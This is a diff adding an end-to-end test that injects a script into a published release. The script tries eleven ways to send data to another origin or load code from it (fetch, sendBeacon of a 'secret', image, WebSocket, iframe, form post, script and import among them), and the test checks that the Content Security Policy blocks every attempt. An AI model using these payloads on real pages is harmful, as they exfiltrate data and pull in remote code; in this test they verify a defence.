@@ -1,0 +1,78 @@
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { releaseCli } from '../support/releaseCli.ts';
+import { expect, test } from '../support/releases.ts';
+import { editedRelease } from '../support/retouchedRelease.ts';
+import { title } from '../support/visitor.ts';
+
+test.use({ tolerated: /Content Security Policy|Trusted|script policy/ });
+
+/** What a release's script may try in order to tell another origin something, or to run what stands there. */
+const ATTEMPTS: Record<string, string> = {
+  fetch: 'fetch(other + "fetch").catch(() => {})',
+  beacon: 'navigator.sendBeacon(other + "beacon", "secret")',
+  image: 'new Image().src = other + "image"',
+  socket: 'new WebSocket(other.replace("http", "ws") + "socket")',
+  stream: 'new EventSource(other + "stream")',
+  style:
+    'document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: other + "style" }))',
+  frame: 'document.body.append(Object.assign(document.createElement("iframe"), { src: other + "frame" }))',
+  form: 'const form = Object.assign(document.createElement("form"), { action: other + "form", method: "post", target: "_blank" }); document.body.append(form); form.submit()',
+  script: 'document.head.append(Object.assign(document.createElement("script"), { src: other + "script" }))',
+  import: 'import(other + "import").catch(() => {})',
+  worker: 'new Worker(other + "worker")',
+};
+
+test('what a release’s script tries with another origin is blocked: it can neither call it nor load from it', async ({
+  page,
+  product,
+  copy,
+}) => {
+  const asked: string[] = [];
+  const server = createServer((request, answer) => {
+    asked.push(request.url ?? '');
+    answer.writeHead(200, { 'access-control-allow-origin': '*' }).end();
+  });
+  server.on('upgrade', (request, socket) => {
+    asked.push(request.url ?? '');
+    socket.destroy();
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  const other = `http://127.0.0.1:${(server.address() as AddressInfo).port}/`;
+
+  const { releaseId, directory } = await editedRelease(product, 'mf-triage', other, (script) =>
+    /^(?:"use strict";)?var mf_triage/.test(script)
+      ? `${script};(()=>{const other=${JSON.stringify(other)};globalThis.tried=[];${Object.entries(ATTEMPTS)
+          .map(([name, attempt]) => `try{${attempt}}catch{};tried.push(${JSON.stringify(name)});`)
+          .join('')}})()`
+      : script,
+  );
+  const release = releaseCli(copy, product);
+  const because = ['--reason', 'a test'];
+  const unseen = ['--no-smoke', 'a hostile release'];
+  await release('publish', 'mf-triage', '--dir', directory, '--allow-dirty', ...unseen, ...because);
+  const { url } = await release<{ url: string }>(
+    ...['pin', '--remote', `mf-triage@${releaseId}`, '--expires', '1h', ...because],
+  );
+
+  await page.request.get(url);
+  await page.addInitScript(() => {
+    const blocked: string[] = [];
+    Object.assign(globalThis, { blocked });
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
+      blocked.push(effectiveDirective),
+    );
+  });
+  await page.goto(product.url);
+  await expect(title(page)).toBeVisible();
+  const read = (name: string) =>
+    page.evaluate((list) => (globalThis as unknown as Record<string, string[]>)[list], name);
+  expect(await read('tried')).toEqual(Object.keys(ATTEMPTS));
+  await expect
+    .poll(async () => [...new Set(await read('blocked'))].sort())
+    .toEqual(['connect-src', 'form-action', 'frame-src', 'img-src', 'script-src-elem', 'style-src-elem']);
+  expect(asked).toEqual([]);
+  await page.request.get(`${other}from-the-test`);
+  expect(asked).toEqual(['/from-the-test']);
+  server.close();
+});
